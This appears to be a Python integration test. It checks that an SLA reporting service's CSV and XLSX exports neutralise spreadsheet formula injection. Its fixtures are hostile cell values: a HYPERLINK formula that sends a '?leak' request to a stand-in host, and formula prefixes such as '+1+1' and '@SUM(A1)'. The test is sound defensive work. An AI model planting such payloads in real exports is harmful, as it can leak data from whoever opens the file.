"""No export turns a resident's text or an id into a live formula: every CSV and XLSX the CLI or
the web app writes, on a real PostgreSQL, from a history whose texts, message ids, municipality id
and name start with =, +, - and @. The exports are found from the app's own routes and the CLI's
commands, so a new one that is not checked here fails the test."""

import asyncio
import csv
import io
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import httpx
import pytest
import typer
from fastapi import FastAPI
from openpyxl import load_workbook
from typer.testing import CliRunner

from kernel.observability import Metrics
from kernel.settings import Settings
from services.auth.roles import Role
from services.auth.store import add_user
from services.cli import app as cli_app
from services.web.app import create_app
from sla.replay import replay_history
from sla.reports.exports import MEDIA_TYPES
from sla.reports.spreadsheet import NEUTRALISER
from sla.stage import open_sla
from tests.conftest import SettingsFactory
from tests.integration.test_history_replay import line

pytestmark = pytest.mark.integration
LEAK = '=HYPERLINK("http://x.example/?leak","x")'
HOSTILE = (LEAK, "+1+1", "-2+3", "@SUM(A1)")
PLACE = "@sever"  # a municipality id is text too
POLICY = f"""version: "formulas"
defaults: {{timezone: Europe/Moscow}}
municipalities:
  "{PLACE}": {{name: '{LEAK}', region: demo}}
rules:
  - match: {{}}
    first_response: {{calendar_days: 1}}
    final_answer: {{calendar_days: 3}}
"""
PLANS = """\
years:
  2026:
    default: {a2: 1.0, share_processed: 90, share_negative: 20, n_positive_neutral: 12}
"""
HISTORY = [
    event
    for number, text in enumerate(HOSTILE, start=1)
    for event in (
        line(
            f"2026-09-0{number}T10:00:00+03:00", "message", text[0] + f"m{number}",
            municipality=PLACE, text=text, sentiment="negative",
        ),
        line(f"2026-09-0{number}T10:00:00+03:00", "assigned", text[0] + f"m{number}"),
        line(f"2026-09-0{number}T12:00:00+03:00", "answered", text[0] + f"m{number}", text=text),
    )
]  # fmt: skip
RISKY = ("=", "+", "-", "@", "\t", "\r")
SPREADSHEETS = {"text/csv", MEDIA_TYPES["xlsx"].split(";")[0]}
# What each export is checked with below; a new one must be added (and checked) here.
CLI_EXPORTS = {
    ("drill-down", "csv"): ["drill-down", "--month", "2026-09", "--municipality", PLACE],
    ("indicators", "csv"): ["indicators", "--month", "2026-09"],
    ("indicators", "xlsx"): ["indicators", "--month", "2026-09"],
    ("report", "xlsx"): ["report", "--period", "2026-Q3"],
}
API_EXPORTS = {("/api/reports/plan-fact", "xlsx"): {"period": "2026-Q3"}}


def configured(settings_factory: SettingsFactory, database_url: str, tmp_path: Path) -> Settings:
    files = {"policy_file": tmp_path / "policy.yaml", "plans_file": tmp_path / "plans.yaml"}
    for path, text in zip(files.values(), (POLICY, PLANS), strict=True):
        path.write_text(text, encoding="utf-8")
    return settings_factory(database_url=database_url, **files)


async def seed(settings: Settings) -> None:
    context = await open_sla(settings, Metrics(), clock=lambda: datetime(2026, 11, 1, tzinfo=UTC))
    try:
        result = await replay_history(context.db, context.service, HISTORY)
        assert result.applied == len(HISTORY)
        assert await context.aggregator.publish_month(PLACE, "2026-09") is not None
    finally:
        await context.db.close()


def cli_exports(group: Any = None, prefix: str = "") -> Iterator[tuple[str, str]]:
    """(command, format) of every CLI command, at any depth, whose --format offers csv or xlsx."""
    group = group or typer.main.get_command(cli_app)
    for name, command in group.commands.items():
        if hasattr(command, "commands"):
            yield from cli_exports(command, f"{prefix}{name} ")
        for param in command.params:
            if "--format" in getattr(param, "opts", ()):
                offered = (param.help or "").replace(",", " ").split()
                yield from ((prefix + name, fmt) for fmt in ("csv", "xlsx") if fmt in offered)


def api_exports(app: FastAPI) -> set[tuple[str, str]]:
    """(path, format) of every route whose OpenAPI answer may be a spreadsheet."""
    found = set()
    for path, operations in app.openapi()["paths"].items():
        for operation in operations.values():
            for answer in operation.get("responses", {}).values():
                for media in answer.get("content", {}):
                    if media.split(";")[0] in SPREADSHEETS:
                        found.add((path, "csv" if "csv" in media else "xlsx"))
    return found


def assert_no_formula(data: bytes, fmt: str) -> list[str]:
    """Every text cell of ``data``; fails on a formula cell or an unneutralised CSV text."""
    if fmt == "xlsx":
        book = load_workbook(io.BytesIO(data))
        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
        assert [c.coordinate for c in cells if c.data_type == "f"] == []
        risky = [c for c in cells if isinstance(c.value, str) and c.value.startswith(RISKY)]
        assert all(c.data_type == "s" and c.quotePrefix for c in risky)
        return [c.value for c in cells if isinstance(c.value, str)]
    texts = [cell for row in csv.reader(io.StringIO(data.decode())) for cell in row]
    assert [text for text in texts if text.startswith(RISKY)] == []
    return texts


def test_every_cli_spreadsheet_export_is_checked_and_has_no_formula(
    settings_factory: SettingsFactory, database_url: str, tmp_path: Path
) -> None:
    assert set(cli_exports()) == set(CLI_EXPORTS)
    settings = configured(settings_factory, database_url, tmp_path)
    asyncio.run(seed(settings))
    names = ("data_dir", "policy_file", "plans_file")
    env = {f"OTKLIK_{name.upper()}": str(getattr(settings, name)) for name in names}
    env["OTKLIK_DATABASE_URL"] = database_url
    runner = CliRunner()
    seen: dict[str, list[str]] = {"csv": [], "xlsx": []}
    for (command, fmt), args in CLI_EXPORTS.items():
        target = tmp_path / f"{command}.{fmt}"
        output = ["--output", str(target)] if command != "drill-down" else []
        measures = ["negative", "assigned"] if command == "drill-down" else [None]
        for measure in measures:
            chosen = ["--measure", measure] if measure else []
            result = runner.invoke(cli_app, [*args, *chosen, "--format", fmt, *output], env=env)
            assert result.exit_code == 0, result.output
            data = target.read_bytes() if output else result.stdout_bytes
            seen[fmt] += assert_no_formula(data, fmt)
    # The texts are there: neutralised in CSV, as they were in XLSX (strings, quotePrefix).
    assert {NEUTRALISER + text for text in (*HOSTILE, PLACE, "=m1", "@m4")} <= set(seen["csv"])
    assert {LEAK, PLACE} <= set(seen["xlsx"])


async def test_every_api_spreadsheet_export_is_checked_and_has_no_formula(
    settings_factory: SettingsFactory, database_url: str, tmp_path: Path
) -> None:
    settings = configured(settings_factory, database_url, tmp_path)
    await seed(settings)
    context = await open_sla(settings, Metrics())
    async with context.db.transaction() as connection:
        await add_user(
            connection, login="vera", password="p" * 12, role=Role.VIEWER, display_name="Вера"
        )
    app = create_app(context, settings)
    assert api_exports(app) == set(API_EXPORTS)
    transport = httpx.ASGITransport(app=app)
    seen: list[str] = []
    async with httpx.AsyncClient(transport=transport, base_url="http://test") as client:
        signed_in = await client.post("/api/login", json={"login": "vera", "password": "p" * 12})
        client.headers["Authorization"] = f"Bearer {signed_in.json()['token']}"
        client.cookies.clear()
        for (path, fmt), params in API_EXPORTS.items():
            answer = await client.get(path, params={**params, "format": fmt})
            assert answer.status_code == 200, answer.text
            seen += assert_no_formula(answer.content, fmt)
    await context.db.close()
    assert LEAK in seen  # the municipality's name, written as text
